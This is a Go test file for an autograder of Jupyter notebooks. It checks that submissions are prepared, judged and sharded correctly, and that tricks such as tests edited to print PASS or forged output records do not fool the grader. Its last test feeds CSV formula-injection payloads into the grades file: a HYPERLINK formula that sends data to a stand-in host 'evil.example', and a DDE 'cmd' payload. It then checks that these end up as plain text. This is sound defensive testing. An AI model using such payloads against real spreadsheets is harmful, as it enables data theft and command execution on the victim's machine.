package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/gradbook/gradbook/internal/nbformat"
	"github.com/gradbook/gradbook/lib/check/observe"
)

const tinySource = "testdata/grade/tiny.ipynb"

// readTiny returns the tiny test assignment: six functions, six graded tests
// worth 1, 2, 3, 1, 1 and 2 points.
func readTiny(t *testing.T) nbformat.Notebook {
	t.Helper()
	nb, err := nbformat.Read(tinySource)
	if err != nil {
		t.Fatal(err)
	}
	return nb
}

// cellByID returns the index of the cell with the grade_id, or -1.
func cellByID(nb nbformat.Notebook, id string) int {
	for i, c := range nb.Cells() {
		if nbformat.GradeID(c) == id {
			return i
		}
	}
	return -1
}

// editCell replaces the source of the cell with the grade_id.
func editCell(t *testing.T, nb nbformat.Notebook, id, src string) {
	t.Helper()
	i := cellByID(nb, id)
	if i < 0 {
		t.Fatalf("no cell %q", id)
	}
	nbformat.SetSource(nb.Cells()[i], src)
}

// deleteCell removes the cell with the grade_id.
func deleteCell(t *testing.T, nb nbformat.Notebook, id string) {
	t.Helper()
	i := cellByID(nb, id)
	if i < 0 {
		t.Fatalf("no cell %q", id)
	}
	cs := nb.Cells()
	nb.SetCells(append(cs[:i], cs[i+1:]...))
}

func TestPrepareSubmission(t *testing.T) {
	src := readTiny(t)
	student, err := assignNotebook(src, "tiny")
	if err != nil {
		t.Fatal(err)
	}
	// The student edits a test, deletes another, and copies a third's metadata
	// onto a cell of their own.
	editCell(t, student, "test_triple", "%%\nfmt.Println(\"PASS\")")
	deleteCell(t, student, "test_double")
	cs := student.Cells()
	extra := nbformat.CloneCell(cs[cellByID(student, "test_inc")])
	nbformat.SetSource(extra, "%%\nfmt.Println(\"my own cell\")")
	student.SetCells(append(cs, extra))

	nb := prepareSubmission(src, student, "gbc")
	if i := cellByID(nb, "test_double"); i >= 0 {
		t.Error("a deleted test cell was put back")
	}
	tri := nbformat.Source(nb.Cells()[cellByID(nb, "test_triple")])
	if !strings.Contains(tri, `gbc.Value("triple(0.5)", triple(0.5), 0, 0)`) || strings.Contains(tri, `Println("PASS")`) {
		t.Errorf("test_triple not restored from the source with its hidden tests:\n%s", tri)
	}
	if got := len(nb.Tests()); got != 5 {
		t.Errorf("%d graded tests in the prepared notebook, want 5 (six minus the deleted one, the copy not counted)", got)
	}
	if last := nb.Cells()[len(nb.Cells())-1]; nbformat.NBGrader(last) != nil || !strings.Contains(nbformat.Source(last), "my own cell") {
		t.Errorf("the student's copied cell kept its nbgrader metadata or lost its code: %v", last)
	}
	if funcs := nbformat.Source(nb.Cells()[cellByID(nb, "funcs")]); !strings.Contains(funcs, `panic("not implemented")`) {
		t.Errorf("the student's solution cell was replaced:\n%s", funcs)
	}
}

// executedCell builds an executed test cell with the given outputs.
func executedCell(src string, outputs ...map[string]any) map[string]any {
	outs := make([]any, len(outputs))
	for i, o := range outputs {
		outs[i] = o
	}
	c := map[string]any{"cell_type": "code", "outputs": outs, "metadata": map[string]any{
		"nbgrader": map[string]any{"grade": true, "solution": false, "locked": true, "grade_id": "t", "points": 2.0}}}
	nbformat.SetSource(c, src)
	return c
}

func stream(name, text string) map[string]any {
	return map[string]any{"output_type": "stream", "name": name, "text": []any{text}}
}

// TestHardenTest: test cells call lib/check through the run's alias and
// carry no expected values; other code is untouched.
func TestHardenTest(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"value", "%%\ncheck.Value(\"a\", f(1), math.Cos(1), 1e-8)",
			"import gbc \"github.com/gradbook/gradbook/lib/check\"\n\n%%\ngbc.Value(\"a\", f(1), 0, 1e-8)"},
		{"slice and func", "%%\nx := check.Slice(\"s\", g(), []float64{1, 2}, 0)\ncheck.Func(\"f\", f, math.Sin, pts, 1e-6)\ncheck.Gradient(\"g\", f, df, []float64{1}, 1e-6)",
			"import gbc \"github.com/gradbook/gradbook/lib/check\"\n\n%%\nx := gbc.Slice(\"s\", g(), nil, 0)\ngbc.Func(\"f\", f, nil, pts, 1e-6)\ngbc.Gradient(\"g\", f, df, []float64{1}, 1e-6)"},
		{"a nested check in the expected value goes with it", "%%\ncheck.Value(\"a\", f(), check.X(), 0)",
			"import gbc \"github.com/gradbook/gradbook/lib/check\"\n\n%%\ngbc.Value(\"a\", f(), 0, 0)"},
		{"the expected value's variables stay used", "%%\nwant := f(2)\ng := h\ncheck.Value(\"a\", k(), want*g(1)+math.Pi+p.X, 0)",
			"import gbc \"github.com/gradbook/gradbook/lib/check\"\n\n%%\nwant := f(2)\ng := h\ngbc.Value(\"a\", k(), func() float64 { _ = []any{want, g}; return 0 }(), 0)"},
		{"not a %% cell", "func f() { check.Value(\"a\", 1, 2, 0) }", "func f() { check.Value(\"a\", 1, 2, 0) }"},
		{"does not parse", "%%\ncheck.Value(", "%%\ncheck.Value("},
	} {
		if got := hardenTest(c.in, "gbc"); got != c.want {
			t.Errorf("%s:\ngot  %q\nwant %q", c.name, got, c.want)
		}
	}
}

// TestJudgeCell: the verdict comes from the runner's status and the
// observation records compared with the reference, never from what the cell
// printed.
func TestJudgeCell(t *testing.T) {
	src := "%%\ncheck.Value(\"x\", x(), 1, 0)"
	ref := []observe.Record{observe.Floats("x", observe.Rel, 1e-9, 1)}
	rec := func(v float64) map[string]any {
		var b strings.Builder
		observe.Write(&b, observe.Floats("x", observe.Rel, 1e9, v))
		return stream("stdout", b.String())
	}
	errOut := map[string]any{"output_type": "error", "ename": "ERROR", "evalue": "exit status 2"}
	ok := cellResult{Status: "ok", Seconds: 1}
	timeout := 10 * time.Second
	for _, c := range []struct {
		name    string
		cell    map[string]any
		result  cellResult
		status  string
		message string
	}{
		{"agrees", executedCell(src, stream("stdout", "PASS x: 1\n"), rec(1)), ok, "passed", ""},
		{"disagrees, whatever it prints", executedCell(src, stream("stdout", "PASS x: 1\n"), rec(2)), ok, "failed", "x: got 2, want 1"},
		{"printing PASS observes nothing", executedCell(src, stream("stdout", "PASS x: 1\n")), ok, "failed", "not reported"},
		{"a forged record next to the real one", executedCell(src, rec(1), rec(2)), ok, "failed", "reported 2 times"},
		{"a panic", executedCell(src, stream("stderr", "panic: "), stream("stderr", "not implemented\n\ngoroutine 1"), errOut),
			cellResult{Status: "error", Seconds: 1}, "error", "panic: not implemented"},
		{"an error after agreeing", executedCell(src, rec(1), errOut), cellResult{Status: "error", Seconds: 1, Detail: "exit status 1"}, "error", "exit status 1"},
		{"the time limit", executedCell(src, stream("stderr", "signal: interrupt\n"), errOut),
			cellResult{Status: "error", Seconds: 10.01}, "timeout", "time limit of 10s"},
		{"a compile error", executedCell(src, errOut), cellResult{Status: "error", Seconds: 1, Detail: "undefined: x"}, "error", "undefined: x"},
		{"records on stderr do not count", executedCell(src, map[string]any{"output_type": "stream", "name": "stderr", "text": rec(1)["text"]}), ok, "failed", "not reported"},
	} {
		status, msg := judgeCell(c.cell, c.result, ref, timeout)
		if status != c.status || !strings.Contains(msg, c.message) {
			t.Errorf("%s: got %s %q, want %s %q", c.name, status, msg, c.status, c.message)
		}
	}
}

// TestStudentName: the student is the folder, whatever the file is called.
func TestStudentName(t *testing.T) {
	for _, c := range []struct{ path, want string }{
		{"submitted/bob/tiny.ipynb", "bob"},
		{"submitted/bob/a2-backward-rules.ipynb", "bob"},
		{"/x/carol/anything.ipynb", "carol"},
	} {
		if got := studentName(c.path); got != c.want {
			t.Errorf("studentName(%q) = %q, want %q", c.path, got, c.want)
		}
	}
}

// TestShards: the shards of a list are disjoint, cover it, and do not depend
// on the order the submissions are given in; merging checks completeness.
func TestShards(t *testing.T) {
	subs := []string{"s/e/a.ipynb", "s/a/a.ipynb", "s/d/a.ipynb", "s/b/a.ipynb", "s/c/a.ipynb"}
	rev := append([]string(nil), subs...)
	sort.Sort(sort.Reverse(sort.StringSlice(rev)))
	seen := map[string]int{}
	dir := t.TempDir()
	var files []string
	for k := 0; k < 2; k++ {
		a, b := shard{k, 2}.pick(subs), shard{k, 2}.pick(rev)
		if strings.Join(a, ",") != strings.Join(b, ",") {
			t.Errorf("shard %d depends on the order: %v vs %v", k, a, b)
		}
		var reports []submissionReport
		for _, p := range a {
			seen[p]++
			reports = append(reports, submissionReport{Student: studentName(p), Assignment: "tiny", Score: 1})
		}
		if err := writeShard(dir, shard{k, 2}, "tiny", reports); err != nil {
			t.Fatal(err)
		}
		files = append(files, filepath.Join(dir, fmt.Sprintf("shard-%d-of-2.json", k)))
	}
	if len(seen) != len(subs) {
		t.Errorf("the shards cover %d of %d submissions", len(seen), len(subs))
	}
	for p, n := range seen {
		if n != 1 {
			t.Errorf("%s is in %d shards", p, n)
		}
	}
	all, err := mergeShards(files)
	if err != nil || len(all) != 5 || all[0].Student != "a" || all[4].Student != "e" {
		t.Errorf("merge: %v, %+v", err, all)
	}
	if _, err := mergeShards(files[:1]); err == nil || !strings.Contains(err.Error(), "shard 1 of 2 is missing") {
		t.Errorf("merging one of two shards: %v", err)
	}
	if _, err := mergeShards([]string{files[0], files[0], files[1]}); err == nil || !strings.Contains(err.Error(), "given twice") {
		t.Errorf("merging a shard twice: %v", err)
	}
	// A student's second submission is reported in the same shard as the
	// first (as an error): that merges. The same student in two shards, or
	// a shard index out of range, does not.
	write := func(dir string, k int, students ...string) string {
		var reports []submissionReport
		for _, s := range students {
			reports = append(reports, submissionReport{Student: s, Assignment: "tiny"})
		}
		if err := writeShard(dir, shard{k, 2}, "tiny", reports); err != nil {
			t.Fatal(err)
		}
		return filepath.Join(dir, fmt.Sprintf("shard-%d-of-2.json", k))
	}
	twice := t.TempDir()
	if all, err := mergeShards([]string{write(twice, 0, "a", "a", "b"), write(twice, 1, "c")}); err != nil || len(all) != 4 {
		t.Errorf("a second submission inside one shard: %v, %d reports", err, len(all))
	}
	split := t.TempDir()
	if _, err := mergeShards([]string{write(split, 0, "a"), write(split, 1, "a")}); err == nil || !strings.Contains(err.Error(), "two shards (0 and 1)") {
		t.Errorf("a student in two shards: %v", err)
	}
	for _, bad := range []string{"2/2", "-1/2", "1", "a/b", "0/0"} {
		if _, err := parseShard(bad); err == nil {
			t.Errorf("-shard %s accepted", bad)
		}
	}
}

// TestGradeThroughKernel grades three submissions of the tiny assignment
// through the real kernel: the reference solution (full marks), the student
// version with its stubs (zero), and a broken one that deletes a test cell,
// loops forever, panics, calls os.Exit(0), gets an answer wrong, edits a
// test to print PASS — and still earns the points of its one right answer
// after all that.
func TestGradeThroughKernel(t *testing.T) {
	if testing.Short() {
		t.Skip("executes notebooks through the kernel")
	}
	env := testKernel(t)
	dir := t.TempDir()
	src := readTiny(t)
	write := func(name string, nb nbformat.Notebook) string {
		p := filepath.Join(dir, "submitted", name)
		if err := nbformat.Write(p, nb); err != nil {
			t.Fatal(err)
		}
		return p
	}
	alice := write("alice/tiny.ipynb", src) // the reference solution itself
	student, err := assignNotebook(src, "tiny")
	if err != nil {
		t.Fatal(err)
	}
	bob := write("bob/tiny.ipynb", student)
	broken := student.Clone()
	editCell(t, broken, "funcs", strings.Join([]string{
		"import \"os\"",
		"func double(x float64) float64 { return 2 * x }",
		"func halve(x float64) float64 { for { x++ } }",
		"func triple(x float64) float64 { var s []float64; return s[int(x)] }",
		"func square(x float64) float64 { os.Exit(0); return 0 }",
		"func negate(x float64) float64 { return x }",
		"func inc(x float64) float64 { return x + 1 }",
	}, "\n"))
	deleteCell(t, broken, "test_double")
	editCell(t, broken, "test_triple", "%%\nfmt.Println(\"PASS\")")
	carol := write("carol/mine.ipynb", broken) // the folder names the student, not the file

	out := filepath.Join(dir, "grades")
	start := time.Now()
	reports, err := gradeSubmissions(env, []string{alice, bob, carol}, gradeOptions{
		outDir: out, timeout: 30 * time.Second, source: tinySource, assignment: "tiny", jobs: 2, cacheDir: t.TempDir(), unsandboxed: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("graded 3 submissions in %.1fs", time.Since(start).Seconds())

	want := map[string]map[string]string{ // student → test → status
		"alice": {"test_double": "passed", "test_halve": "passed", "test_triple": "passed", "test_square": "passed", "test_negate": "passed", "test_inc": "passed"},
		"bob":   {"test_double": "error", "test_halve": "error", "test_triple": "error", "test_square": "error", "test_negate": "error", "test_inc": "error"},
		"carol": {"test_double": "deleted", "test_halve": "timeout", "test_triple": "error", "test_square": "failed", "test_negate": "failed", "test_inc": "passed"},
	}
	wantScore := map[string]float64{"alice": 10, "bob": 0, "carol": 2}
	if len(reports) != 3 {
		t.Fatalf("%d reports, want 3", len(reports))
	}
	for _, r := range reports {
		if r.Error != "" || r.Assignment != "tiny" || r.MaxScore != 10 {
			t.Errorf("%s: error %q, assignment %q, max %g", r.Student, r.Error, r.Assignment, r.MaxScore)
		}
		if r.Score != wantScore[r.Student] {
			t.Errorf("%s scored %g, want %g", r.Student, r.Score, wantScore[r.Student])
		}
		for _, s := range r.Tests {
			if s.Status != want[r.Student][s.Test] {
				t.Errorf("%s %s: %s (%s), want %s", r.Student, s.Test, s.Status, s.Message, want[r.Student][s.Test])
			}
			if r.Student == "bob" && !strings.Contains(s.Message, "panic: not implemented") {
				t.Errorf("bob %s: message %q does not name the stub's panic", s.Test, s.Message)
			}
		}
	}

	// The reports on disk: one CSV row per student and test, and JSON.
	f, err := os.Open(filepath.Join(out, "grades.csv"))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+3*6 || rows[0][0] != "student" {
		t.Errorf("grades.csv has %d rows (header %v), want 19", len(rows), rows[0])
	}
	var js struct{ Submissions []submissionReport }
	data, err := os.ReadFile(filepath.Join(out, "grades.json"))
	if err == nil {
		err = json.Unmarshal(data, &js)
	}
	if err != nil || len(js.Submissions) != 3 || js.Submissions[0].Score != 10 {
		t.Errorf("grades.json: %v, %+v", err, js.Submissions)
	}
}

// TestGradeBundledAssignments grades every assignment in
// notebooks/assignments twice: the source itself must score full marks
// (so no visible or hidden test fails on the reference solution), and its
// student version must score zero with every test stopped by a stub's
// panic (so every stub compiles and every test depends on a stub).
func TestGradeBundledAssignments(t *testing.T) {
	if testing.Short() {
		t.Skip("executes notebooks through the kernel")
	}
	env := testKernel(t)
	srcs, _ := filepath.Glob(filepath.Join("..", "notebooks", "assignments", "*.ipynb"))
	dir := t.TempDir()
	for _, src := range srcs {
		nb, err := nbformat.Read(src)
		if err != nil {
			t.Fatal(err)
		}
		name := assignmentName(nb, src)
		student, err := assignNotebook(nb, name)
		if err != nil {
			t.Fatal(err)
		}
		ref := filepath.Join(dir, name, "reference", name+".ipynb")
		stub := filepath.Join(dir, name, "stub", name+".ipynb")
		if err := nbformat.Write(ref, nb); err != nil {
			t.Fatal(err)
		}
		if err := nbformat.Write(stub, student); err != nil {
			t.Fatal(err)
		}
		reports, err := gradeSubmissions(env, []string{ref, stub}, gradeOptions{
			outDir: filepath.Join(dir, "grades", name), timeout: 60 * time.Second, source: src, jobs: 2, cacheDir: t.TempDir(), unsandboxed: true})
		if err != nil {
			t.Fatal(err)
		}
		if r := reports[0]; r.Error != "" || r.Score != r.MaxScore || r.MaxScore == 0 {
			t.Errorf("%s: the reference solution scored %g of %g (%s): %+v", name, r.Score, r.MaxScore, r.Error, r.Tests)
		}
		if r := reports[1]; r.Error != "" || r.Score != 0 {
			t.Errorf("%s: the student version scored %g (%s)", name, r.Score, r.Error)
		}
		for _, s := range reports[1].Tests {
			if !strings.Contains(s.Message, "panic: not implemented") {
				t.Errorf("%s %s: the stub version fails with %s %q, not the stub's panic", name, s.Test, s.Status, s.Message)
			}
		}
	}
}

// A student chooses their folder's name, and the instructor opens
// grades.csv in a spreadsheet: a name or message that starts like a formula
// must arrive as text, while numbers and ordinary names stay as they are.
func TestGradesCSVHoldsNoFormulas(t *testing.T) {
	dir := t.TempDir()
	reports := []submissionReport{
		{Student: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Assignment: "a1", Submission: "s/=1+1/a1.ipynb",
			Tests: []testScore{{Test: "t1", Points: 0, MaxPoints: 2, Status: "failed", Message: "-1 is not 2", Seconds: 1}}},
		{Student: "@SUM(A1)", Assignment: "a1", Submission: "x.ipynb", Error: "+cmd|' /C calc'!A0"},
		{Student: "ada", Assignment: "a1", Submission: "ada/a1.ipynb",
			Tests: []testScore{{Test: "t1", Points: 2, MaxPoints: 2, Status: "passed", Seconds: 1}}},
	}
	if err := writeGradeReports(dir, reports); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, "grades.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, field := range row {
			if field != "" && strings.ContainsRune("=+-@", rune(field[0])) {
				t.Errorf("column %s of %q starts like a formula: %q", rows[0][i], row, field)
			}
		}
	}
	if got := rows[len(rows)-1]; got[0] != "ada" || got[3] != "2" {
		t.Errorf("an ordinary row changed: %q", got)
	}
	if got := rows[1][0]; got != `'=HYPERLINK("http://evil.example/?"&A1,"x")` {
		t.Errorf("the formula-like name is %q, want it kept as text behind a quote", got)
	}
}
